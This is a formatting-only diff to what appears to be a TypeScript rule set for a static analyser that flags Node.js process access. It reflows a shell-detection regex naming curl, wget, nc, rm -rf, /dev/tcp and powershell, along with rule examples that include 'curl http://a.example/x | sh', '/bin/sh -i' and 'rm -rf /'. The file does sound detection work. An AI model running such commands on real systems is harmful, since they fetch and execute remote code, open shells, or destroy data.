@@ -14,7 +14,8 @@ const ASKED_BY_PACKAGES = [
   'process.type',
 ]
 
-const SHELL = /^(?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh(?:\s+-|$)|\|\s*(?:ba)?sh\b|^(?:rm\s+-rf|curl\s|wget\s|nc\s|chmod\s|powershell\b|cmd(?:\.exe)?\s+\/c)|\/dev\/tcp\//i
+const SHELL =
+  /^(?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh(?:\s+-|$)|\|\s*(?:ba)?sh\b|^(?:rm\s+-rf|curl\s|wget\s|nc\s|chmod\s|powershell\b|cmd(?:\.exe)?\s+\/c)|\/dev\/tcp\//i
 
 export const PROCESS_ACCESS: readonly Rule[] = [
   {
@@ -52,7 +53,10 @@ export const PROCESS_ACCESS: readonly Rule[] = [
     on: 'use',
     keys: ASKED_BY_PACKAGES,
     reason: '{key} tells where the code runs.',
-    examples: { match: [`if (process.env.NODE_ENV !== 'production') {}`, `process.nextTick(f)`], no: [`process.env.HOME`, `x.nextTick(f)`] },
+    examples: {
+      match: [`if (process.env.NODE_ENV !== 'production') {}`, `process.nextTick(f)`],
+      no: [`process.env.HOME`, `x.nextTick(f)`],
+    },
   },
   {
     id: 'process-module',
@@ -149,7 +153,10 @@ export const PROCESS_ACCESS: readonly Rule[] = [
     keys: ['*'],
     when: ({ text }) => SHELL.test(text ?? ''),
     reason: 'A call is given a command for a shell.',
-    examples: { match: [`run('curl http://a.example/x | sh')`, `x('/bin/sh -i')`, `go('rm -rf /')`], no: [`log('push it')`, `f('curly braces')`] },
+    examples: {
+      match: [`run('curl http://a.example/x | sh')`, `x('/bin/sh -i')`, `go('rm -rf /')`],
+      no: [`log('push it')`, `f('curly braces')`],
+    },
   },
   {
     id: 'workers',
